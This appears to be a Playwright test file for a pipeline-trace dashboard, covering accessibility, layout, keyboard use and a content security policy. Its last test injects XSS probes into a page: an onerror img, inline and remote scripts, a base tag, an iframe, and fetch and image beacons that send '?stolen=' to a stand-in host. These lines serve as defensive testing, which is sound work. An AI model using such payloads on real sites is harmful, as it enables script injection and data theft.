"""Every page in a real headless Chromium: clean by axe-core in light and dark, names as text, keyboard alone, own scripts."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from dashboards import app
from pptrace.workflow.load import load
from tests.dashboards.accessibility import settle, violations
from tests.dashboards.conftest import Serve, Visiting
from tests.dashboards.hostile import FOLDER, MARKUP, write_hostile
from tests.support.extent import ALL
from tests.support.programs import SAMPLES

pytestmark = pytest.mark.browser

PAGES = tuple(path.strip("/") for path in app.PAGES)
IN_DARK = PAGES if ALL else ("timeline", "schedules")
"""Pages whose colours are tried in the dark too: these have a canvas and tools, charts, maps, fields and tables."""
FOREIGN = """() => [...document.querySelectorAll('#app :is(img, script, iframe, object), svg a, [href^="javascript"]')]
    .map(element => element.outerHTML)"""


def test_every_page_is_accessible_and_shows_hostile_names_as_text(
    tmp_path: Path, serve: Serve, visit: Visiting
) -> None:
    address = serve([write_hostile(tmp_path)])
    page = visit(address).page
    for name in PAGES:
        page.click(f"#to-{name or 'overview'}")
        settle(page)
        assert FOLDER in page.inner_text("#run-title")
        assert page.evaluate(FOREIGN) == []
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), name
        assert page.evaluate("window.attacked") is None, name
        assert violations(page, in_dark=name in IN_DARK) == [], name
    page.goto(address)
    assert MARKUP in settle(page).inner_text("#run-errors"), "shown as it is"


def test_an_open_page_says_that_its_server_has_ended_until_one_answers(serve: Serve, browser: Any) -> None:
    page = browser.new_page()
    page.clock.install()
    page.goto(serve([SAMPLES / "1f1b_p2"]))
    page.wait_for_selector("#facts .fact")
    page.route("**/timeline-data/opening", lambda route: route.abort())
    page.clock.run_for(5_000)
    page.wait_for_selector("#ended[role=alert]")
    assert page.inner_text("#ended").startswith("The server has ended or cannot be reached")
    page.unroute("**/timeline-data/opening")
    page.clock.run_for(5_000)
    page.wait_for_selector("#ended", state="detached")
    page.close()


def test_a_page_says_what_its_server_could_not_answer_until_it_answers_again(serve: Serve, browser: Any) -> None:
    page = browser.new_page()
    page.goto(serve([SAMPLES / "1f1b_p2"]))
    page.wait_for_selector("#facts .fact")
    page.route("**/_dash-update-component*", lambda route: route.fulfill(status=400, body="refused"))
    page.click("#to-steps")
    page.wait_for_selector("#unanswered[role=alert]")
    assert "(HTTP 400)" in page.inner_text("#unanswered")
    page.unroute("**/_dash-update-component*")
    page.click("#to-bubbles")
    page.wait_for_selector("#unanswered", state="detached")
    page.close()


STATE = "document.querySelector('#timeline').timeline"
SPREAD = """selector => {
    const middles = [...document.querySelectorAll(selector)].map(element => element.getBoundingClientRect())
        .filter(box => box.height).map(box => (box.top + box.bottom) / 2);
    return Math.max(...middles) - Math.min(...middles);
}"""
"""Largest vertical distance between the middles of elements, px; elements of one row differ in height."""
CASES = sorted(path.parent for path in SAMPLES.glob("*/run.json"))
FEW = ("hang_p4",)
"""Samples that are looked at without PPTRACE_ALL: the one with the most parts that others lack."""


@pytest.mark.parametrize("case", [case for case in CASES if ALL or case.name in FEW], ids=lambda case: case.name)
def test_every_page_of_a_sample_fits_at_1280_px(case: Path, serve: Serve, visit: Visiting) -> None:
    """Facts and tools stand in one row each, nothing is beyond the window, and no part has failed."""
    page = visit(serve([case])).page
    page.set_viewport_size({"width": 1280, "height": 800})
    for name in PAGES if ALL else ("", "timeline"):
        page.click(f"#to-{name or 'overview'}")
        settle(page)
        assert page.evaluate("document.documentElement.scrollWidth") <= 1280, name
        assert page.evaluate(SPREAD, "#facts .fact") < 10, name
        assert page.locator("[id$=-failed]").count() == 0, name
        if name == "timeline":
            page.wait_for_function("() => document.querySelector('#timeline')?.dataset.complete === 'true'")
            page.fill("#timeline-search", "longest")
            page.press("#timeline-search", "Enter")
            page.wait_for_function("() => document.querySelector('#timeline-found').textContent.startsWith('1 of ')")
            assert page.evaluate(SPREAD, ".timeline-tools > *") < 10
            start, end, last = page.evaluate(f"[{STATE}.t0, {STATE}.t1, {STATE}.about.span]")
            assert 0 <= start < end <= last, "what was found is shown with times of the run alone"
    page.click("#to-experts")
    page.wait_for_selector("#expert-routes .hm" if "experts" in case.name else "#no-experts")
    page.click("#to-hang")
    page.wait_for_selector("#hang-graph svg" if "hang" in case.name else "#no-hang")
    for kind, start in (("svg", b"<svg"), ("png", b"\x89PNG")) if "hang" in case.name else ():
        with page.expect_download() as saved:
            page.click(f"button[data-picture=hang-graph][data-format={kind}]")
        content = Path(saved.value.path()).read_bytes()
        assert content.startswith(start)
        assert kind == "png" or (b"var(" not in content and b"#ffffff" in content), (
            "in colours that need no page, on white"
        )


def test_a_phone_s_page_is_no_wider_than_it_and_its_texts_are_not_broken_into_letters(
    serve: Serve, visit: Visiting
) -> None:
    page = visit(serve([SAMPLES / "gpu_nccl_experts_pp2_ep2"])).page
    page.set_viewport_size({"width": 390, "height": 800})
    for name in ("overview", "timeline", "bubbles"):
        page.click(f"#to-{name}")
        settle(page)
        if name == "timeline":
            page.wait_for_function("() => document.querySelector('#timeline')?.dataset.complete === 'true'")
            boxes = [page.locator(f".timeline-{part}").bounding_box() for part in ("canvas", "mini")]
            labels = page.evaluate(f"{STATE}.left")
            assert labels < boxes[0]["width"] / 3
            assert boxes[1]["x"] == boxes[0]["x"] + labels
        assert page.evaluate("document.documentElement.scrollWidth") <= 390, name
        if name == "overview":
            assert page.locator(".finding-head strong").first.bounding_box()["width"] > 200
        for cell in page.locator("td:not(.number, .short)").all():
            assert cell.bounding_box()["width"] > 100
        for picture in page.locator(".graph").all():
            assert picture.bounding_box()["width"] >= 500


def test_four_ranks_fill_a_4k_screen(serve: Serve, visit: Visiting) -> None:
    page = visit(serve([SAMPLES / "zbv_p4"]) + "hang").page
    page.set_viewport_size({"width": 3840, "height": 2160})
    page.click("#to-timeline")
    page.wait_for_function("() => document.querySelector('#timeline')?.dataset.complete === 'true'")
    assert page.locator(".timeline-canvas").bounding_box()["height"] > 0.6 * 2160


def test_axes_of_links_are_chosen_by_who_reads_no_screen(tmp_path: Path, serve: Serve, visit: Visiting) -> None:
    ends = {"rank": [0, 1], "kind": ["send", "recv"], "peer": [1, 0], "start_ns": [40, 20], "end_ns": [60, 60]}
    messages = pd.concat([pd.DataFrame({**ends, "axis": axis, "bytes": 2**20}) for axis in ("pp", "cp")])
    messages.to_csv(tmp_path / "comms.csv", index=False)
    ops = {"rank": [0, 1], "kind": "F", "stage": [0, 1], "microbatch": 0, "start_ns": [0, 60], "end_ns": [40, 100]}
    pd.DataFrame(ops).to_csv(tmp_path / "ops.csv", index=False)
    page = settle(visit(serve([tmp_path]) + "communication").page)
    choice = page.get_by_role("radiogroup", name="Axis of the links")
    choice.get_by_role("radio", name="pp").focus()
    assert choice.get_by_role("radio").count() == 2
    page.keyboard.press("Space")
    page.wait_for_function("() => document.querySelector('#links-body').innerText.includes('pp, all steps')")
    switch, below = (page.locator(selector).first.bounding_box() for selector in ("#link-axis", "#links-body .panel"))
    assert 8 < below["y"] - switch["y"] - switch["height"] < 30, "it stands apart from the pictures that it changes"
    assert violations(settle(page)) == []


FOCUS = """() => {
    const element = document.activeElement;
    const { outlineStyle, boxShadow } = getComputedStyle(element);
    const isSeen = element === document.body || outlineStyle !== 'none' || boxShadow !== 'none';
    return [element.id || element.textContent.slice(0, 60), isSeen];
}"""


def tab_to(page: Any, wanted: str) -> None:
    """Press Tab until something of that id or text has the focus; what has it is seen to have it."""
    for _ in range(60):
        page.keyboard.press("Tab")
        page.wait_for_function(f"() => ({FOCUS})()[1]")  # at once, or at the end of a transition
        if page.evaluate(FOCUS)[0] == wanted:
            return
    raise AssertionError(f"{wanted} is not reached with Tab")


def test_the_keyboard_alone_goes_everywhere(run_p4: Path, serve: Serve, visit: Visiting) -> None:
    """From the link over the header to the page, from page to page, to another step, and to the journey of a microbatch."""
    step = load([run_p4]).report.typical_step
    page = settle(visit(serve([run_p4])).page)
    tab_to(page, "Skip to the page")
    page.keyboard.press("Enter")
    assert page.evaluate(FOCUS)[0] == "page"
    tab_to(page, "step")
    page.keyboard.press("Enter")
    page.wait_for_function(f"() => document.activeElement.value === '{step.step}'")
    page.keyboard.press("ArrowDown")
    page.wait_for_function(f"() => document.activeElement.value === '{step.step + 1}'")
    page.keyboard.press("Space")
    shown = "document.querySelector('#step-value').textContent"
    page.wait_for_function(f"() => {shown}.startsWith('{step.step + 1}')")
    page.wait_for_function("() => document.activeElement.id === 'step'")  # has the focus back
    tab_to(page, "to-timeline")
    page.keyboard.press("Enter")
    page.wait_for_selector("#timeline")
    assert settle(page).get_attribute("#to-timeline", "aria-current") == "page"
    page.wait_for_function(f"() => document.querySelector('#timeline').timeline.step === {step.step + 1}")
    tab_to(page, "timeline-search")
    page.keyboard.type("rank 3 B 5")
    page.keyboard.press("Enter")
    page.wait_for_function("() => document.querySelector('#timeline-found').textContent.endsWith(' of 3')")
    page.keyboard.press("Tab")
    page.keyboard.press("j")
    page.wait_for_selector("#timeline-journey")
    assert f"Microbatch 5, step {step.step + 1}" in page.inner_text(".timeline-side"), "found from the view on"
    assert violations(settle(page)) == []


def test_a_page_runs_no_script_that_is_not_the_dashboards(run_p4: Path, serve: Serve, browser: Any) -> None:
    """Markup that would get into a page could do nothing: its policy is tried by attacks of each kind."""
    page = browser.new_page()
    page.goto(serve([run_p4]) + "hang")
    settle(page)
    page.evaluate(
        """document.addEventListener('securitypolicyviolation',
            event => (window.refused ||= []).push(event.effectiveDirective))"""
    )
    page.evaluate(
        """() => {
            const box = document.createElement('div');
            document.body.append(box);
            box.innerHTML = '<img src="data:," onerror="window.attacked = 1"><iframe src="https://example.invalid/"></iframe>';
            const script = document.createElement('script');
            script.textContent = 'window.attacked = 2';
            box.append(script, Object.assign(document.createElement('script'), { src: 'https://example.invalid/x.js' }));
            box.append(Object.assign(document.createElement('base'), { href: 'https://example.invalid/' }));
            setTimeout('window.attacked = 3');
            fetch('https://example.invalid/?stolen=1').catch(() => {});
            new Image().src = 'https://example.invalid/?stolen=2';
        }"""
    )
    page.wait_for_function("() => window.refused && new Set(window.refused).size >= 7")
    refused = page.evaluate("[...new Set(window.refused)].sort()")
    assert page.evaluate("window.attacked") is None
    page.close()
    assert refused == [
        "base-uri",
        "connect-src",
        "frame-src",
        "img-src",
        "script-src",
        "script-src-attr",
        "script-src-elem",
    ]
